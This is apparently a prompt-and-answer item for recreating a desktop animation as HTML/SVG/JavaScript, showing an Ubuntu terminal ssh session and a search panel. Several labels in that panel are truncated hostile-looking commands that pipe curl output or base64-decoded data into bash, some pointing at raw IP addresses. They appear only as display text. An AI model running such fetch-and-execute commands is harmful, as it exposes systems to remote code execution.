
Write an HTML page that moves like this. It is 998 px wide and 561 px high and loops after 8 s.

```html
<!DOCTYPE html>
<html lang="pt">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #300a24; }
  svg { display: block; width: 998px; height: 561px; }
  text { text-rendering: geometricPrecision; font-family: "Noto Sans", "Open Sans", sans-serif; white-space: pre; }
  #term text { font: 10.913px "DejaVu Sans Mono", monospace; fill: #fff; }
  .label { font-size: 9.1px; fill: #fff; text-anchor: middle; }
  .head { font-size: 12.5px; fill: #fff; }
  #tint { mix-blend-mode: color; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 998 561" xmlns="http://www.w3.org/2000/svg"></svg>
<script>
const LOOP = 8000;
const CELL = 6.573, ROW = 12.42, LEFT = 48, TOP = 18.3;

const lines = [
  "user@host:~ $ ssh tomvarlen@north.korea -Y",
  "The authenticity of host 'north.korea (172.19.193.19)' can't be established.",
  "ECDSA key fingerprint is SHA256:JZ2rOZUfVwlRGd5iRQplq/dJ74Pcm7gj0WnX2nPBvE0.",
  "Are you sure you want to continue connecting (yes/no)? ",
  "Warning: Permanently added 'north.korea,172.19.193.19' (ECDSA) to the list of known hosts.",
  "tomvarlen@north.korea's password: ",
  "PTY allocation request failed on channel 0"
];

// time, visible rows, typed letters, cursor column, cursor row (-1: hidden)
const termSteps = [
  [0, 1, 0, 42, 0], [380, 1, 0, 0, -1], [750, 1, 0, 0, 1],
  [800, 4, 0, 55, 3], [1300, 4, 0, 0, -1], [1820, 4, 0, 55, 3],
  [1920, 4, 1, 56, 3], [1970, 4, 2, 57, 3], [2110, 4, 3, 58, 3],
  [2680, 4, 3, 0, -1], [2840, 4, 3, 58, 3],
  [2890, 5, 3, 0, 5], [3430, 5, 3, 0, -1], [4020, 5, 3, 0, 5], [4620, 5, 3, 0, -1],
  [4910, 6, 3, 0, -1], [5210, 6, 3, 34, 5], [6630, 6, 3, 0, 6], [6730, 7, 3, 0, 7]
];
// time, dash opacity
const dashSteps = [[0, 0], [6900, .15], [6950, .45], [7000, .8], [7050, 1]];
// time, hover opacity
const hoverSteps = [[0, 1], [7410, .66], [7460, .33], [7510, 0]];

const rect = (x, y, w, h, fill, extra = "") =>
  `<rect x="${x}" y="${y}" width="${w}" height="${h}" fill="${fill}" ${extra}/>`;
const circle = (x, y, r, fill, extra = "") =>
  `<circle cx="${x}" cy="${y}" r="${r}" fill="${fill}" ${extra}/>`;
const path = (d, fill, extra = "") => `<path d="${d}" fill="${fill}" ${extra}/>`;
const stroke = (d, color, width, extra = "") =>
  path(d, "none", `stroke="${color}" stroke-width="${width}" ${extra}`);
const text = (x, y, s, extra = "") => `<text x="${x}" y="${y}" ${extra}>${s}</text>`;
const group = (id, body, extra = "") => `<g id="${id}" ${extra}>${body}</g>`;
const at = (x, y, body) => `<g transform="translate(${x} ${y})">${body}</g>`;

function gear(x, y, r, teeth, fill, hole) {
  const pts = [];
  for (let i = 0; i < teeth * 4; i++) {
    const a = (i + .5) / (teeth * 4) * Math.PI * 2;
    const d = i % 4 < 2 ? r : r * .8;
    pts.push((x + d * Math.cos(a)).toFixed(2) + "," + (y + d * Math.sin(a)).toFixed(2));
  }
  return `<polygon points="${pts.join(" ")}" fill="${fill}"/>` + circle(x, y, r * .31, hole);
}

// Launcher
const tile = y => rect(4.5, y + .5, 37.5, 37.5, "url(#tile)", 'rx="3" stroke="#a5659b" stroke-opacity=".55"');
const square = (y, size, fill) => rect(23 - size / 2, y + 19 - size / 2, size, size, fill, 'rx="1"');

const cabinet =
  rect(8, 68, 30, 31, "#d5d3cb", 'rx="2"') + rect(9.5, 71, 27, 12, "#4f4a45") +
  rect(10.5, 73, 25, 3, "#ee8a4a") + rect(10, 76, 26, 3, "#f4b183") + rect(9.5, 79, 27, 3, "#f7efe6") +
  rect(9, 83, 28, 15, "#aaa8a1") + rect(18, 87, 11, 7, "#f4f3ef", 'rx="1"') + rect(20, 89, 7, 3, "#77756f");
const tools =
  gear(23, 386, 16.5, 9, "#e4e2df", "#7d4374") +
  stroke("M10,400 L29,380", "#c92a20", 5, 'stroke-linecap="round"') +
  stroke("M29,380 L35,373", "#dddddd", 4) + stroke("M33,370 q-4,5 0,8 q5,2 7,-3", "#dddddd", 3);
const shell =
  rect(4, 410, 38.5, 38, "url(#shellTile)", 'rx="3"') + rect(7, 416, 32.5, 27, "#eeeeec", 'rx="1"') +
  rect(8.5, 417.5, 29.5, 24, "#303432") + path("M8.5,417.5 h29.5 v8 l-29.5,8 z", "#4b504d") +
  stroke("M12.5,423.5 l5,3.5 l-5,3.5 M19,431.5 h6", "#fff", 1.5) +
  path("M46.5,425 v7 l-4,-3.5 z", "#ddd") + stroke("M0,426.5 h3 M0,430.5 h3", "#ddd", 1.3);
const trash =
  path("M10,523 h27 l-4,30 h-19 z", "#d8c8d5", 'fill-opacity=".36"') +
  stroke("M14,526 l3,25 M20,527 l1,25 M27,527 l-1,25 M33,526 l-3,25", "#e8dfe6", 1, 'stroke-opacity=".35"') +
  `<ellipse cx="23.5" cy="523" rx="13.5" ry="3" fill="#4c2145" stroke="#d5c9d2" stroke-width="1.5"/>`;
const homeTile = tile(22) + circle(23, 41, 11, "#f6eef4");
const tiles = Array.from({ length: 9 }, (_, i) => tile(Math.round(22 + 43.15 * i))).join("") + tile(518);
const launcher = rect(0, 18, 47, 543, "url(#bar)") + rect(47, 18, 1, 543, "#7b4a70") + tiles +
  circle(23, 41, 11, "#f6eef4") + cabinet +
  circle(23, 127, 16, "#ee7a22") + square(151, 27, "#2a6fb0") + square(194, 27, "#3fa535") +
  square(237, 27, "#cf5531") + square(280, 28, "#ec7630") + square(324, 30, "#f4f3f1") +
  tools + shell + trash;

// Panel
const ink = "currentColor";
const indicators =
  path("M837,2.5 l-3.5,4.5 h2.5 v6 h2 v-6 h2.5 z M842.5,15 l3.5,-4.5 h-2.5 v-6 h-2 v6 h-2.5 z", ink) +
  rect(855.5, 2, 14.5, 14, ink, 'rx="1.5"') +
  text(862.7, 12.6, "Pt", 'font-size="9.5" font-weight="600" fill="#3c3b37" text-anchor="middle"') +
  circle(881.5, 9, 3.6, ink) +
  rect(895.5, 5, 15, 8, "none", `rx="1" stroke="${ink}" stroke-width="1.2"`) +
  rect(897, 6.5, 9, 5, ink) + rect(911, 7.5, 1.5, 3, ink) +
  path("M921,7 h3 l4,-4 v12 l-4,-4 h-3 z", ink) +
  stroke("M930,6 q2,3 0,6 M932,4.5 q3,4.5 0,9", ink, 1.1) +
  text(945, 12.6, "", `id="clock" font-size="10.1" fill="${ink}"`) +
  circle(986.3, 9, 3.3, "none", `stroke="${ink}" stroke-width="1.5"`) +
  circle(986.3, 9, 5, "none", `stroke="${ink}" stroke-width="2" stroke-dasharray="1.5 2.427"`);

// Dash
const blackArea = path("M405,85 H577 C605,110 640,127 720,142 C765,160 790,174 840,179 H545 " +
  "C610,215 650,247 730,275 S860,297 890,305 C930,330 965,350 998,370 V475 H992 V561 H52 V438 Z", "#0f0f0f");
const bands =
  path("M540,56 C620,95 690,108 765,135 S930,168 998,174 V56 Z", "#3f1b39") +
  path("M640,56 C760,76 860,114 998,127 V56 Z", "#2f302c") +
  path("M740,56 C820,86 930,95 998,98 V56 Z", "#403e3a") +
  path("M890,56 C920,62 960,85 998,80 V56 Z", "#3b1a36") +
  path("M645,179 C740,214 880,240 998,262 V179 Z", "#3f1b39") +
  path("M676,179 C740,209 870,204 998,236 V179 Z", "#2f302c") +
  path("M720,179 C800,200 880,200 998,212 V179 Z", "#403e3a") +
  path("M870,179 C900,193 960,198 998,195 V179 Z", "#3b1a36") +
  path("M190,0 H690 C600,5 300,4 190,0 Z", "#2f302c") +
  path("M690,0 H860 C910,8 960,16 998,18 V25 H860 C800,16 740,10 690,0 Z", "#401b39");
const search = rect(55.5, 25.5, 935, 30, "#110b11", 'rx="3" stroke="#b3a8b0"');
const sliver = path("M910,26 H990 V55 H898 Z", "#351030");
const cornerSliver = path("M972,26 H988 Q990,26 990,30 V55 Z", "#351030");
const smear = (x, y, w, dash) =>
  stroke(`M${x},${y} h${w}`, "#3a102f", 6, `stroke-linecap="round" stroke-dasharray="${dash}"`);
const ghost = smear(155, 37, 380, "46 12 20 9") + smear(150, 48, 390, "30 11 64 9") +
  smear(165, 62, 260, "24 10 12 9") + smear(60, 75, 575, "28 10 52 11 16 9") +
  smear(55, 87, 205, "50 10 24 9") + smear(58, 99, 262, "18 9 55 11");

const computer =
  path("M-16,-21 l3,-1 h32 q2,0 2,2 v26 l-4,4 z", "#eee") +
  rect(-18, -21, 36, 31, "#0a0a0a", 'rx="2" stroke="#f4f4f4" stroke-width="1.6"') +
  stroke("M19,-19 v27", "#222", 1) + rect(-9, -14, 17, 17, "#e8612a") +
  path("M-17,13 h34 l-4,9 h-34 z", "#f4f4f4") +
  stroke("M-16,15.5 h30 M-17,17.5 h30 M-18,19.5 h30", "#333", .8, 'stroke-dasharray="1.5 1.2"');
const gears = gear(7.5, 3.5, 14.5, 12, "#e0e0e0", "#222") + gear(-9.5, -13, 10.5, 10, "#d6d6d6", "#222") +
  gear(-12.5, 13, 8, 9, "#d6d6d6", "#222");

const columnX = i => 120.5 + 114.7 * i;
const entry = (col, y, icon, ...rows) => at(columnX(col).toFixed(1), y,
  icon + rows.map((s, i) => text(0, 46.6 + 9.9 * i, s, 'class="label"')).join(""));
const results =
  entry(0, 118, computer, "xterm") +
  entry(0, 241, computer, "xterm") + entry(1, 241, computer, "xterm -geometry 0x0") +
  entry(2, 241, computer, "xterm -geometry", "… base64 -d \\ bashexit") +
  entry(3, 241, gears, "echo", "…lgo=|base64 -d|bash") + entry(4, 241, gears, "terminal") +
  entry(5, 241, gears, "curl -s -k", "…2.72:9443/love'|bash") +
  entry(6, 241, gears, "curl", '…92.241.252.90:9090/"') + entry(7, 241, gears, "]") +
  entry(0, 341, gears, "curl", '…192.241.252.90:9090"') +
  entry(1, 341, gears, "wget", "… python macos &amp;exit");

const headings =
  circle(69, 41, 6, "none", 'stroke="#fff" stroke-width="1.4"') + stroke("M66.5,38.5 l5,5 m0,-5 l-5,5", "#fff", 1.8) +
  circle(69, 69.5, 6, "none", 'stroke="#fff" stroke-width="1.3"') + stroke("M66,69 l3,3 l6,-7", "#fff", 1.5) +
  gear(69, 192, 6.5, 12, "#fff", "#fff") + stroke("M69,188 v5 M69,194.5 v1.5", "#2e0826", 1.6) +
  text(84, 74, "Resultados", 'class="head"') + text(84, 196.5, "Histórico", 'class="head"') +
  text(147, 196.3, "Exibir menos resultados", 'font-size="9.1" fill="#8d7a89"') +
  path("M256,191 h6 l-3,4 z", "#a596a2");
const buttons = circle(9.5, 8.5, 5.3, "#ec5f33") + stroke("M7.5,6.5 l4,4 m0,-4 l-4,4", "#40180c", 1.2) +
  circle(23.5, 8.5, 5.3, "#6c6963") + stroke("M21,8.5 h5", "#37352f", 1.2) +
  circle(37.5, 8.5, 5.3, "#f2f0ec") + rect(35.3, 6.8, 4.4, 3.4, "none", 'stroke="#333" stroke-width="1.2"');
const pointer = path("M367.5,208 v12.5 l2.8,-2.6 l2,4.6 l1.8,-.8 l-2,-4.5 h3.8 z", "#fff",
  'stroke="#111" stroke-width=".7"');

const gradient = (id, ...stops) => `<linearGradient id="${id}" x2="0" y2="1">` +
  stops.map(([o, c, a = 1]) => `<stop offset="${o}" stop-color="${c}" stop-opacity="${a}"/>`).join("") +
  "</linearGradient>";

const $ = id => document.getElementById(id);
$("stage").innerHTML =
  "<defs>" + gradient("panel", [0, "#5b5950"], [1, "#3c3b37"]) +
  gradient("bar", [0, "#74205f"], [.15, "#691a59"], [1, "#641455"]) +
  gradient("tile", [0, "#fff", .38], [.5, "#fff", .18], [1, "#fff", .1]) +
  gradient("shellTile", [0, "#d2cfd1"], [1, "#a6a1a5"]) + "</defs>" +
  rect(0, 0, 998, 561, "#300a24") + launcher +
  rect(995.5, 475, 2.5, 86, "#eb6f45") +
  rect(0, 0, 998, 18, "url(#panel)") +
  group("title", text(4.5, 12.3, "Terminal", 'font-size="9.85" font-weight="700" fill="#e8e5dd"')) +
  rect(0, 18, 48, 543, "#641455", 'id="tint"') +
  rect(0, 18, 48, 543, "#450c37", 'id="dim"') +
  group("backdrop", rect(0, 0, 998, 18, "#2e0826") + rect(48, 18, 950, 543, "#2e0826") +
    group("settled", blackArea) + bands + search + group("fading", sliver) +
    group("smears", cornerSliver + ghost) + rect(995, 475, 3, 86, "#4d2144")) +
  group("term", lines.map((s, i) => text(LEFT, (TOP + 10 + ROW * i).toFixed(2), s)).join("") +
    `<rect id="cursor" width="6.6" height="12.6" stroke="#fff"/>`) +
  group("dash", rect(4, 22, 38.5, 38, "#a3679a", 'rx="3"') + homeTile +
    path("M46.5,37.5 v7 l-3.5,-3.5 z", "#fff") + buttons + headings +
    rect(311, 202.5, 77.5, 77, "#57304f", 'id="hover"') + results +
    rect(86, 29, 58, 24, "#8c8a8c", 'id="selection"') +
    text(86, 48.5, "xterm", 'font-size="20.7" fill="#fff"') +
    rect(144, 29, 1, 24, "#fff", 'id="caret"') + pointer) +
  group("indicators", indicators);

const rows = [...document.querySelectorAll("#term text")];
const pick = (steps, t) => steps.reduce((found, s) => s[0] <= t ? s : found);
const set = (id, attrs) => { for (const k in attrs) $(id).setAttribute(k, attrs[k]); };
const show = (id, on) => set(id, { opacity: on ? 1 : 0 });

function draw(t) {
  const [, count, typed, col, row] = pick(termSteps, t);
  const open = pick(dashSteps, t)[1];
  const hover = pick(hoverSteps, t)[1];
  const settled = open === 1;

  rows.forEach((el, i) => el.setAttribute("opacity", i < count ? 1 : 0));
  rows[3].textContent = lines[3] + "yes".slice(0, typed);
  set("cursor", {
    x: LEFT + col * CELL, y: TOP + row * ROW, opacity: row < 0 ? 0 : 1,
    fill: open ? "none" : "#fff", "stroke-width": open ? 1 : 0
  });
  $("clock").textContent = t < 1870 ? "17:59" : "18:00";

  set("term", { opacity: settled ? 0 : 1 - .9 * open });
  show("title", !open);
  set("indicators", { color: open ? "#fff" : "#e8e5dd" });
  set("tint", { opacity: open });
  set("dim", { opacity: .85 * open ** 1.5 });
  set("backdrop", { opacity: open < .8 ? open : 1 });
  set("dash", { opacity: open });
  show("settled", settled);
  show("fading", !settled);
  show("smears", settled);
  set("hover", { opacity: hover, fill: settled ? "#57304f" : "#454a3e" });
  show("selection", t < 7410);
  show("caret", t >= 7410);
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
draw(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
